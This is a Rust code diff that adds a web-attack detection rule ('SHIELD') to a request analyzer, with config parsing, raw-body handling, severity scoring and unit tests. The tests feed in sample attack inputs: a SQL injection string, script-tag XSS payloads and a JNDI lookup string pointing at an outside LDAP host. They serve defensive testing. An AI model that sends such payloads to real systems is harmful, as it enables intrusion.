@@ -29,6 +29,16 @@ enum RuleConfig {
         deny: Vec<String>,
         allow: Vec<String>,
     },
+    /// Shield detection; every limit is optional (the crate's defaults).
+    #[serde(rename = "SHIELD")]
+    Shield {
+        index: u32,
+        max_body_bytes: Option<usize>,
+        max_decode_rounds: Option<u8>,
+        max_params: Option<usize>,
+        max_json_depth: Option<usize>,
+        max_value_bytes: Option<usize>,
+    },
 }
 
 #[derive(Deserialize)]
@@ -50,9 +60,15 @@ struct EmailRule {
     deny_invalid: bool,
 }
 
+struct ShieldRule {
+    index: u32,
+    config: shield::Config,
+}
+
 enum Rule {
     Bot(BotRule),
     Email(EmailRule),
+    Shield(ShieldRule),
 }
 
 /// A configured rule set.
@@ -61,8 +77,16 @@ pub struct RuleSet {
 }
 
 /// One request, positional so the host encodes it cheaply:
-/// `[ua, ip, email, method, host, path, query, cookies, headers, custom, fingerprint_sets]`.
+/// `[ua, ip, email, method, host, path, query, cookies, headers, custom, fingerprint_sets,
+///   shield_headers, body]`.
 /// Strings borrow from the input unless they contain JSON escapes.
+///
+/// The last two are `null` unless the rule set has a SHIELD rule (the host
+/// then also sends the full `query` and `cookies`): `shield_headers` is a
+/// flat `[name, value, name, value, ...]` list of every header in the order
+/// received (lower-case names); `body` is the body's length in bytes, and
+/// the body itself follows the JSON array as raw bytes, so it needs no
+/// encoding on the host and no decoding here.
 #[derive(Deserialize)]
 struct Request<'a>(
     #[serde(borrow)] Option<Cow<'a, str>>,
@@ -76,6 +100,8 @@ struct Request<'a>(
     #[serde(borrow)] BTreeMap<Cow<'a, str>, Cow<'a, str>>,
     #[serde(borrow)] BTreeMap<Cow<'a, str>, Cow<'a, str>>,
     #[serde(borrow)] Vec<Vec<Cow<'a, str>>>,
+    #[serde(borrow)] Option<Vec<Cow<'a, str>>>,
+    Option<usize>,
 );
 
 /// Holds the compiled bot catalogue and every configured rule set.
@@ -145,6 +171,25 @@ fn build(input: &[u8]) -> Result<RuleSet, String> {
                     deny_invalid,
                 })
             }
+            RuleConfig::Shield { index, max_body_bytes, max_decode_rounds, max_params, max_json_depth, max_value_bytes } => {
+                let mut config = shield::Config::default();
+                if let Some(v) = max_body_bytes {
+                    config.max_body_bytes = v;
+                }
+                if let Some(v) = max_decode_rounds {
+                    config.max_decode_rounds = v;
+                }
+                if let Some(v) = max_params {
+                    config.max_params = v;
+                }
+                if let Some(v) = max_json_depth {
+                    config.max_json_depth = v;
+                }
+                if let Some(v) = max_value_bytes {
+                    config.max_value_bytes = v;
+                }
+                Rule::Shield(ShieldRule { index, config })
+            }
         });
     }
     Ok(RuleSet { rules })
@@ -156,9 +201,9 @@ fn build(input: &[u8]) -> Result<RuleSet, String> {
 /// A request that cannot be read gives `{"error": "..."}` alone.
 pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<u8>) {
     out.clear();
-    let req: Request = match serde_json::from_slice(input) {
+    let (req, body) = match parse_request(input) {
         Ok(r) => r,
-        Err(e) => return write_error(out, &format!("bad request encoding: {}", e)),
+        Err(e) => return write_error(out, &e),
     };
     if handle as usize >= an.rulesets.len() {
         return write_error(out, "unknown rule set handle");
@@ -173,6 +218,8 @@ pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<
 
     out.extend_from_slice(b"{\"r\":[");
     let mut detection: Option<bots::Detection> = None;
+    // Findings of the last shield rule, reused by another with the same limits.
+    let mut findings: Option<(&shield::Config, Vec<shield::Finding>)> = None;
     for (n, rule) in set.rules.iter().enumerate() {
         if n > 0 {
             out.push(b',');
@@ -194,6 +241,13 @@ pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<
                 bot_outcome(rule, det, detector.expect("compiled"), ip.as_ref(), out);
             }
             Rule::Email(rule) => email_outcome(rule, req.2.as_deref(), out),
+            Rule::Shield(rule) => {
+                let found = match &findings {
+                    Some((cfg, f)) if **cfg == rule.config => f,
+                    _ => &findings.insert((&rule.config, inspect_shield(&req, body, &rule.config))).1,
+                };
+                shield_outcome(rule, found, out);
+            }
         }
     }
     // Outcomes depend on the user agent and email, fingerprints on the IP and
@@ -253,6 +307,96 @@ fn bot_outcome(rule: &BotRule, det: &bots::Detection, detector: &Detector, ip: O
     out.extend_from_slice(b",\"denied\":");
     write_str_list(out, &denied);
     let _ = write!(Buf(out), ",\"verified\":{},\"spoofed\":{}}}]", verified, spoofed);
+}
+
+/// Splits the input into the request array and the raw body bytes after it.
+fn parse_request(input: &[u8]) -> Result<(Request, Option<&[u8]>), String> {
+    let mut stream = serde_json::Deserializer::from_slice(input).into_iter::<Request>();
+    let req = match stream.next() {
+        Some(Ok(r)) => r,
+        Some(Err(e)) => return Err(format!("bad request encoding: {}", e)),
+        None => return Err("bad request encoding: empty input".to_owned()),
+    };
+    let rest = &input[stream.byte_offset()..];
+    match req.12 {
+        Some(n) if n == rest.len() => Ok((req, Some(rest))),
+        Some(n) => Err(format!("bad request encoding: body of {} bytes announced, {} sent", n, rest.len())),
+        None if rest.iter().all(u8::is_ascii_whitespace) => Ok((req, None)),
+        None => Err("bad request encoding: trailing bytes after the request".to_owned()),
+    }
+}
+
+/// Runs the shield crate over the request's shield fields.
+fn inspect_shield(req: &Request, body: Option<&[u8]>, config: &shield::Config) -> Vec<shield::Finding> {
+    let pairs: &[Cow<str>] = req.11.as_deref().unwrap_or(&[]);
+    // The host sends lower-case names; lower-case defensively all the same.
+    let names: Vec<Cow<str>> = pairs
+        .chunks_exact(2)
+        .map(|p| {
+            if p[0].bytes().any(|b| b.is_ascii_uppercase()) {
+                Cow::Owned(p[0].to_ascii_lowercase())
+            } else {
+                Cow::Borrowed(&*p[0])
+            }
+        })
+        .collect();
+    let headers: Vec<(&str, &str)> = names.iter().zip(pairs.chunks_exact(2)).map(|(n, p)| (&**n, &*p[1])).collect();
+    let request = shield::Request {
+        method: &req.3,
+        path: &req.5,
+        query: &req.6,
+        headers: &headers,
+        cookies: &req.7,
+        body,
+    };
+    shield::inspect(&request, config)
+}
+
+/// Suspicion points per finding: Low 1, Medium 2, High 3; the sum is capped.
+const SCORE_CAP: u32 = 100;
+
+fn shield_outcome(rule: &ShieldRule, found: &[shield::Finding], out: &mut Vec<u8>) {
+    let mut worst: [Option<shield::Severity>; 10] = [None; 10];
+    let mut score: u32 = 0;
+    for f in found {
+        let slot = shield::Category::ALL.iter().position(|c| *c == f.category).unwrap_or(0);
+        if worst[slot].map_or(true, |s| f.severity > s) {
+            worst[slot] = Some(f.severity);
+        }
+        score = score.saturating_add(match f.severity {
+            shield::Severity::Low => 1,
+            shield::Severity::Medium => 2,
+            shield::Severity::High => 3,
+        });
+    }
+    let mut seen: Vec<(&str, shield::Severity)> = shield::Category::ALL
+        .iter()
+        .zip(worst.iter())
+        .filter_map(|(c, s)| s.map(|s| (c.as_str(), s)))
+        .collect();
+    seen.sort_unstable_by(|a, b| a.0.cmp(b.0));
+    let deny = found.iter().any(|f| f.severity == shield::Severity::High);
+    let _ = write!(
+        Buf(out),
+        "[{},\"{}\",{{\"type\":\"SHIELD\",\"shield_triggered\":{},\"categories\":[",
+        rule.index,
+        if deny { "DENY" } else { "ALLOW" },
+        !found.is_empty()
+    );
+    for (i, (name, _)) in seen.iter().enumerate() {
+        if i > 0 {
+            out.push(b',');
+        }
+        let _ = write!(Buf(out), "\"{}\"", name);
+    }
+    let _ = write!(Buf(out), "],\"score\":{},\"severities\":{{", score.min(SCORE_CAP));
+    for (i, (name, sev)) in seen.iter().enumerate() {
+        if i > 0 {
+            out.push(b',');
+        }
+        let _ = write!(Buf(out), "\"{}\":\"{}\"", name, sev.as_str());
+    }
+    out.extend_from_slice(b"}}]");
 }
 
 fn email_outcome(rule: &EmailRule, address: Option<&str>, out: &mut Vec<u8>) {
@@ -318,5 +462,88 @@ impl std::fmt::Write for Buf<'_> {
     fn write_str(&mut self, s: &str) -> std::fmt::Result {
         self.0.extend_from_slice(s.as_bytes());
         Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(config: &str, request: &str) -> String {
+        run_bytes(config, request.as_bytes())
+    }
+
+    fn run_bytes(config: &str, request: &[u8]) -> String {
+        let mut an = Analyzer::new();
+        let mut out = Vec::new();
+        configure_json(&mut an, config.as_bytes(), &mut out);
+        assert_eq!(out, b"{\"handle\":0}", "{}", String::from_utf8_lossy(&out));
+        analyze_json(&mut an, 0, request, &mut out);
+        String::from_utf8(out).unwrap()
+    }
+
+    const SHIELD: &str = r#"{"rules":[{"kind":"SHIELD","index":3}]}"#;
+
+    #[test]
+    fn shield_clean_request_allows() {
+        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","h","/","q=hello","a=1",{},{},[],["user-agent","x"],null]"#);
+        assert_eq!(out, r#"{"r":[[3,"ALLOW",{"type":"SHIELD","shield_triggered":false,"categories":[],"score":0,"severities":{}}]]}"#);
+    }
+
+    #[test]
+    fn shield_high_finding_denies_with_score() {
+        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","h","/","q=1%27%20or%201%3D1--","",{},{},[],[],null]"#);
+        assert!(out.starts_with(r#"{"r":[[3,"DENY",{"type":"SHIELD","shield_triggered":true,"categories":["SQL_INJECTION"],"score":3,"#), "{}", out);
+        assert!(out.contains(r#""severities":{"SQL_INJECTION":"HIGH"}"#), "{}", out);
+    }
+
+    fn with_body(head: &str, body: &[u8]) -> Vec<u8> {
+        let mut v = format!("{},{}]", head, body.len()).into_bytes();
+        v.extend_from_slice(body);
+        v
+    }
+
+    #[test]
+    fn shield_body_bytes_follow_the_array_raw() {
+        let head = r#"[null,"1.2.3.4",null,"POST","h","/","","",{},{},[],["content-type","application/x-www-form-urlencoded"]"#;
+        let out = run_bytes(SHIELD, &with_body(head, b"f=%3Cscript%3Ealert(1)%3C/script%3E&g=\xff\x00\"]"));
+        assert!(out.contains(r#""DENY""#) && out.contains(r#""XSS""#), "{}", out);
+        let out = run_bytes(SHIELD, &with_body(head, b"f=hello&g=\xff"));
+        assert!(out.contains(r#""ALLOW""#), "{}", out);
+        // A length that does not match what follows is refused, not guessed at.
+        let mut bad = with_body(head, b"f=1");
+        bad.push(b'x');
+        assert!(run_bytes(SHIELD, &bad).starts_with(r#"{"error":"bad request encoding: body of 3 bytes"#));
+        let trailing = r#"[null,"1.2.3.4",null,"GET","h","/","","",{},{},[],null,null]xyz"#;
+        assert!(run(SHIELD, trailing).starts_with(r#"{"error":"bad request encoding: trailing"#));
+    }
+
+    #[test]
+    fn shield_upper_case_header_names_are_lowered() {
+        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","h","/","","",{},{},[],["X-Api-Version","${jndi:ldap://e.com/a}"],null]"#);
+        assert!(out.contains("JAVA_INJECTION"), "{}", out);
+    }
+
+    #[test]
+    fn shield_limits_are_configurable() {
+        let cfg = r#"{"rules":[{"kind":"SHIELD","index":0,"max_body_bytes":4}]}"#;
+        let req = with_body(r#"[null,"1.2.3.4",null,"POST","h","/","","",{},{},[],["content-type","text/plain"]"#, b"abcd<script>alert(1)</script>");
+        assert!(run_bytes(cfg, &req).contains(r#""ALLOW""#));
+        assert!(run_bytes(SHIELD, &req).contains(r#""DENY""#));
+    }
+
+    #[test]
+    fn shield_score_counts_each_finding_and_is_capped() {
+        let mut f = vec![shield::Finding { category: shield::Category::Xss, severity: shield::Severity::Medium, location: shield::Location::Cookie, rule: "t" }; 2];
+        f.push(shield::Finding { category: shield::Category::Ssrf, severity: shield::Severity::Low, location: shield::Location::Body, rule: "t" });
+        let rule = ShieldRule { index: 0, config: shield::Config::default() };
+        let mut out = Vec::new();
+        shield_outcome(&rule, &f, &mut out);
+        let s = String::from_utf8(out).unwrap();
+        assert_eq!(s, r#"[0,"ALLOW",{"type":"SHIELD","shield_triggered":true,"categories":["SSRF","XSS"],"score":5,"severities":{"SSRF":"LOW","XSS":"MEDIUM"}}]"#);
+        let many = vec![f[2].clone(); 500];
+        let mut out = Vec::new();
+        shield_outcome(&rule, &many, &mut out);
+        assert!(String::from_utf8(out).unwrap().contains(r#""score":100"#));
     }
 }
